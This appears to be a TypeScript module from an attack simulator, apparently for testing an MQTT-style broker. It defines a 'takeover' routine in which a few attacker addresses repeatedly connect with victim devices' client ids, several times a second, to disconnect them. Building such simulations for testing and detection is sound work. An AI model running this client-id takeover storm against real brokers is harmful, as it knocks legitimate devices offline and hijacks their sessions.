// Session takeover with the client ids of devices.

import type { Attack } from '../attacker.js'
import { connectPacket } from '../packets.js'

/** Takes over client ids repeatedly. */
export const takeover: Attack = {
  name: 'takeover',
  summary:
    'client-id takeover storm: 3 to 4 addresses connect with the client ids of devices, 3 to 8 a second each, which disconnects the devices',
  attackers: [3, 4],
  async run(attacker) {
    const {
      random,
      scene: { victims }
    } = attacker
    const perSecond = random.between(3, 8)
    for (let taken = 0; taken < 400 && !attacker.over && victims.length > 0; taken++) {
      const socket = await attacker.connect()
      if (socket === null) return
      await attacker.send(
        socket,
        connectPacket({ clientId: random.oneOf(victims), keepalive: 30, clean: random.chance(0.7) })
      )
      void attacker.pause(random.between(200, 2_000)).then(() => socket.end())
      await attacker.pause(1_000 / perSecond)
    }
  }
}
